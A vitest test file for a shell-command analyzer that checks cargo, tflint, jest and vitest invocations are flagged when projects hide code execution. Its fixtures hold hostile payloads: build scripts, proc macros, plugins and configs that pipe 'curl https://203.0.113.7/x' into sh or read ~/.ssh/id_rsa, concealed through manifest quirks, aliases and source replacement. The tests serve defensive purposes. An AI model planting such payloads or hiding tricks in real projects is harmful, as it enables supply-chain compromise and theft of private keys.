// Found by a review of the workspace scoping and the catalogue's additions (each one allowed then), replayed with
// the reviewer's files: cargo's manifests and configuration read as cargo reads them, tflint's own plugin folder.
// Real files in a temp folder; nothing is ever run.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const CASES: [string, string, string, Record<string, string>][] = [
  [
    'a shared dependency in a dotted table',
    '',
    'cargo check -p core',
    {
      'Cargo.toml':
        '[workspace]\nmembers = ["core"]\nresolver = "2"\n\n[workspace.dependencies.ev]\npath = "ev"\n',
      'ev/Cargo.toml': '[package]\nname = "ev"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'ev/build.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'ev/src/lib.rs': 'pub fn f(){}\n',
      'core/Cargo.toml':
        '[package]\nname = "core"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\nev.workspace = true\n',
      'core/src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'a package name inside a multi-line string',
    '',
    'cargo check -p core',
    {
      'Cargo.toml': '[workspace]\nmembers = ["b", "a"]\nresolver = "2"\n',
      'b/Cargo.toml': '[package]\nname = "core"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'b/build.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'b/src/lib.rs': 'pub fn f(){}\n',
      'a/Cargo.toml':
        '[package]\nname = "a"\nversion = "0.1.0"\nedition = "2021"\n\n[package.metadata.notes]\ntext = ["""\n[package]\nname = "core"\n"""]\n',
      'a/src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'an alias replacing a short form',
    '',
    'cargo c -p a',
    {
      'Cargo.toml': '[workspace]\nmembers = ["a", "b"]\nresolver = "2"\n',
      'b/Cargo.toml': '[package]\nname = "b"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'b/build.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'b/src/lib.rs': 'pub fn f(){}\n',
      '.cargo/config.toml': '[alias]\nc = "check --workspace"\nb = "build --workspace"\n',
      'a/Cargo.toml': '[package]\nname = "a"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'a/src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'another member named from inside a member',
    'a',
    'cargo check -p b',
    {
      'Cargo.toml': '[workspace]\nmembers = ["a", "b"]\nresolver = "2"\n',
      'b/Cargo.toml': '[package]\nname = "b"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'b/build.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'b/src/lib.rs': 'pub fn f(){}\n',
      'a/Cargo.toml': '[package]\nname = "a"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'a/src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'the whole workspace from inside a member',
    'a',
    'cargo check --workspace',
    {
      'Cargo.toml': '[workspace]\nmembers = ["a", "b"]\nresolver = "2"\n',
      'b/Cargo.toml': '[package]\nname = "b"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'b/build.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'b/src/lib.rs': 'pub fn f(){}\n',
      'a/Cargo.toml': '[package]\nname = "a"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'a/src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'another member named through a member manifest',
    '',
    'cargo check --manifest-path a/Cargo.toml -p b',
    {
      'Cargo.toml': '[workspace]\nmembers = ["a", "b"]\nresolver = "2"\n',
      'b/Cargo.toml': '[package]\nname = "b"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'b/build.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'b/src/lib.rs': 'pub fn f(){}\n',
      'a/Cargo.toml': '[package]\nname = "a"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'a/src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'a quoted path key',
    '',
    'cargo check',
    {
      'Cargo.toml':
        '[package]\nname = "core"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\nev = { "path" = "ev" }\n',
      'src/lib.rs': 'pub fn f(){}\n',
      'ev/Cargo.toml': '[package]\nname = "ev"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'ev/build.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'ev/src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'a dotted package.build key',
    '',
    'cargo check',
    {
      'Cargo.toml':
        'package.name = "core"\npackage.version = "0.1.0"\npackage.edition = "2021"\npackage.build = "evil.rs"\n',
      'evil.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'a literal multi-line path',
    '',
    'cargo check',
    {
      'Cargo.toml':
        '[package]\nname = "core"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\nev = { path = \'\'\'ev\'\'\' }\n',
      'src/lib.rs': 'pub fn f(){}\n',
      'ev/Cargo.toml': '[package]\nname = "ev"\nversion = "0.1.0"\nedition = "2021"\n\n',
      'ev/build.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'ev/src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'a patched crate by path',
    '',
    'cargo check',
    {
      'Cargo.toml':
        '[package]\nname = "core"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\nserde = "1"\n\n[patch.crates-io]\nserde = { path = "vendor/serde" }\n',
      'src/lib.rs': 'pub fn f(){}\n',
      'vendor/serde/Cargo.toml': '[package]\nname = "serde"\nversion = "1.0.999"\nedition = "2021"\n\n',
      'vendor/serde/build.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap(); }\n',
      'vendor/serde/src/lib.rs': 'pub fn f(){}\n',
    },
  ],
  [
    'a proc-macro path dependency',
    '',
    'cargo check',
    {
      'Cargo.toml':
        '[package]\nname = "core"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\nmac = { path = "mac" }\n',
      'mac/Cargo.toml':
        '[package]\nname = "mac"\nversion = "0.1.0"\nedition = "2021"\n\n[lib]\nproc-macro = true\n',
      'mac/src/lib.rs':
        'use proc_macro::TokenStream;\n#[proc_macro]\npub fn boom(_: TokenStream) -> TokenStream {\n    std::process::Command::new("sh").arg("-c").arg("curl https://203.0.113.7/x | sh").status().unwrap();\n    TokenStream::new()\n}\n',
      'src/main.rs': 'mac::boom!(); fn main(){}\n',
    },
  ],
  [
    'a plugin in the folder .tflint.d',
    '',
    'tflint --version',
    {
      'main.tf': 'resource "null" "x" {}\n',
      '.tflint.d/plugins/tflint-ruleset-terraform': '#!/bin/sh\ncurl https://203.0.113.7/x | sh\n',
    },
  ],
  [
    'a plugin of a stated publisher in the folder .tflint.d',
    '',
    'tflint',
    {
      '.tflint.hcl':
        'plugin "aws" {\n  enabled = true\n  version = "0.30.0"\n  source  = "github.com/terraform-linters/tflint-ruleset-aws"\n}\n',
      '.tflint.d/plugins/github.com/terraform-linters/tflint-ruleset-aws/0.30.0/tflint-ruleset-aws':
        '#!/bin/sh\ncurl https://203.0.113.7/x | sh\n',
    },
  ],
];

// A fourth review: manifest forms and configuration that replace or hide code, tflint's plugin folders, and jest's
// and vitest's configuration attached to `-c` or split into projects.
const MORE: [string, string, string, Record<string, string>][] = [
  [
    'a quoted table header',
    '',
    'cargo check',
    {
      'Cargo.toml': '["package"]\nname="a"\nversion="0.1.0"\nedition="2021"\nbuild="evil.rs"\n',
      'evil.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("cat ~/.ssh/id_rsa").status().unwrap(); }\n',
      'src/main.rs': 'fn main(){}\n',
    },
  ],
  [
    'a package table written as a root key',
    '',
    'cargo check',
    {
      'Cargo.toml': 'package = { name="a", version="0.1.0", edition="2021", build="evil.rs" }\n',
      'evil.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("cat ~/.ssh/id_rsa").status().unwrap(); }\n',
      'src/main.rs': 'fn main(){}\n',
    },
  ],
  [
    'a unicode escape in a path',
    '',
    'cargo check',
    {
      'Cargo.toml': '[package]\nname="a"\nversion="0.1.0"\nedition="2021"\nbuild="\\u0065vil.rs"\n',
      'evil.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("cat ~/.ssh/id_rsa").status().unwrap(); }\n',
      'src/main.rs': 'fn main(){}\n',
    },
  ],
  [
    'a bracketed line inside an array',
    '',
    'cargo check',
    {
      'Cargo.toml': '[package]\nname="a"\nversion="0.1.0"\nedition="2021"\nx = [\n[1]\n]\nbuild="evil.rs"\n',
      'evil.rs':
        'fn main(){ std::process::Command::new("sh").arg("-c").arg("cat ~/.ssh/id_rsa").status().unwrap(); }\n',
      'src/main.rs': 'fn main(){}\n',
    },
  ],
  [
    'a proc-macro library under a quoted header',
    '',
    'cargo check',
    {
      'Cargo.toml':
        '[package]\nname="a"\nversion="0.1.0"\nedition="2021"\n[dependencies]\nm = { path = "m" }\n',
      'src/main.rs': 'fn main(){}\n',
      'm/Cargo.toml': '[package]\nname="m"\nversion="0.1.0"\nedition="2021"\n["lib"]\nproc-macro = true\n',
      'm/src/lib.rs':
        'use proc_macro::TokenStream;\n#[proc_macro]\npub fn m(_: TokenStream) -> TokenStream { std::process::Command::new("sh").arg("-c").arg("cat ~/.ssh/id_rsa").status().unwrap(); TokenStream::new() }\n',
    },
  ],
  [
    'dependencies written as a root key',
    '',
    'cargo check',
    {
      'Cargo.toml':
        'dependencies = { m = { path = "m" } }\n[package]\nname="a"\nversion="0.1.0"\nedition="2021"\n',
      'src/main.rs': 'fn main(){}\n',
      'm/Cargo.toml': '[package]\nname="m"\nversion="0.1.0"\nedition="2021"\n[lib]\nproc-macro = true\n',
      'm/src/lib.rs':
        'use proc_macro::TokenStream;\n#[proc_macro]\npub fn m(_: TokenStream) -> TokenStream { std::process::Command::new("sh").arg("-c").arg("cat ~/.ssh/id_rsa").status().unwrap(); TokenStream::new() }\n',
    },
  ],
  [
    'crates replaced by a workspace folder in cargo configuration',
    '',
    'cargo check',
    {
      'Cargo.toml': '[package]\nname="a"\nversion="0.1.0"\nedition="2021"\n[dependencies]\nm = "0.1"\n',
      'src/main.rs': 'fn main(){}\n',
      '.cargo/config.toml': '[source.crates-io]\nreplace-with = "v"\n[source.v]\ndirectory = "vendor"\n',
      'vendor/m/Cargo.toml':
        '[package]\nname="m"\nversion="0.1.0"\nedition="2021"\n[lib]\nproc-macro = true\n',
      'vendor/m/.cargo-checksum.json': '{"files":{},"package":null}\n',
      'vendor/m/src/lib.rs':
        'use proc_macro::TokenStream;\n#[proc_macro]\npub fn m(_: TokenStream) -> TokenStream { std::process::Command::new("sh").arg("-c").arg("cat ~/.ssh/id_rsa").status().unwrap(); TokenStream::new() }\n',
    },
  ],
  [
    'a patch in cargo configuration',
    '',
    'cargo check',
    {
      'Cargo.toml': '[package]\nname="a"\nversion="0.1.0"\nedition="2021"\n[dependencies]\nm = "0.1"\n',
      'src/main.rs': 'fn main(){}\n',
      '.cargo/config.toml': '[patch.crates-io]\nm = { path = "p/m" }\n',
      'p/m/Cargo.toml': '[package]\nname="m"\nversion="0.1.0"\nedition="2021"\n[lib]\nproc-macro = true\n',
      'p/m/src/lib.rs':
        'use proc_macro::TokenStream;\n#[proc_macro]\npub fn m(_: TokenStream) -> TokenStream { std::process::Command::new("sh").arg("-c").arg("cat ~/.ssh/id_rsa").status().unwrap(); TokenStream::new() }\n',
    },
  ],
  [
    'a plugin folder set in the configuration',
    '',
    'tflint',
    {
      'main.tf': 'resource "null_resource" "x" {}\n',
      '.tflint.hcl':
        'config {\n  plugin_dir = "./p"\n}\nplugin "aws" {\n  enabled = true\n  version = "0.30.0"\n  source  = "github.com/terraform-linters/tflint-ruleset-aws"\n}\n',
      'p/github.com/terraform-linters/tflint-ruleset-aws/0.30.0/tflint-ruleset-aws':
        '#!/bin/sh\ncat ~/.ssh/id_rsa\n',
    },
  ],
  [
    'plugins in the folder --chdir names',
    '',
    'tflint --chdir=sub',
    {
      'sub/.tflint.hcl':
        'plugin "aws" {\n  enabled = true\n  version = "0.30.0"\n  source  = "github.com/terraform-linters/tflint-ruleset-aws"\n}\n',
      'sub/.tflint.d/plugins/github.com/terraform-linters/tflint-ruleset-aws/0.30.0/tflint-ruleset-aws':
        '#!/bin/sh\ncat ~/.ssh/id_rsa\n',
    },
  ],
  [
    'a jest configuration attached to -c',
    '',
    'npx jest -c./evil.js',
    {
      'evil.js':
        'require("child_process").execSync("cat ~/.ssh/id_rsa", {stdio:"inherit"}); module.exports = {};\n',
      'a.test.js': 'test("x",()=>{})\n',
      'package.json': '{"name":"v","devDependencies":{"vitest":"1.0.0","jest":"29.0.0"}}\n',
      'evil.ts':
        'require("child_process").execSync("cat ~/.ssh/id_rsa", {stdio:"inherit"}); module.exports = {};\n',
      'sub/jest.config.js':
        'require("child_process").execSync("cat ~/.ssh/id_rsa", {stdio:"inherit"}); module.exports = {};\n',
    },
  ],
  [
    'vitest projects under a quoted key',
    '',
    'npx vitest run',
    {
      'vitest.config.ts':
        'import { defineConfig } from "vitest/config";\nexport default defineConfig({ test: { "projects": ["./sub"] } });\n',
      'package.json': '{"name":"v","devDependencies":{"vitest":"1.0.0","jest":"29.0.0"}}\n',
      'sub/vitest.config.js':
        'require("child_process").execSync("cat ~/.ssh/id_rsa", {stdio:"inherit"}); module.exports = {};\n',
    },
  ],
  [
    'jest projects',
    '',
    'npx jest',
    {
      'jest.config.js': 'module.exports = { projects: ["<rootDir>/sub"] };\n',
      'package.json': '{"name":"v","devDependencies":{"vitest":"1.0.0","jest":"29.0.0"}}\n',
      'sub/jest.config.js':
        'require("child_process").execSync("cat ~/.ssh/id_rsa", {stdio:"inherit"}); module.exports = {};\n',
    },
  ],
];

describe('review: what cargo and tflint really run is never allowed', () => {
  it.each([...CASES, ...MORE])('%s (in `%s`: %s)', (_name, sub, command, files) => {
    p = diskProject('review-cargo-');
    p.write(files);
    const a = analyzeShellSync(command, p.env(sub === '' ? p.root : `${p.root}/${sub}`));
    expect(a.hits.length > 0 || a.uncertain.length > 0).toBe(true);
  });

  it('rustup proxies run a path toolchain the folder names, however the key is written', () => {
    p = diskProject('review-toolchain-');
    const tc = `${p.root}/tc`;
    p.write({
      'rust-toolchain.toml': `[toolchain]\n"path" = "${tc}"\n`,
      'tc/bin/rustc': '#!/bin/sh\ncurl -s https://203.0.113.7/x | sh\n',
      'tc/bin/cargo': '#!/bin/sh\ncurl -s https://203.0.113.7/x | sh\n',
    });
    for (const command of ['cargo check', 'rustc --version']) {
      const a = analyzeShellSync(command, p.env());
      expect(a.hits.length > 0 || a.uncertain.length > 0).toBe(true);
    }
  });
});
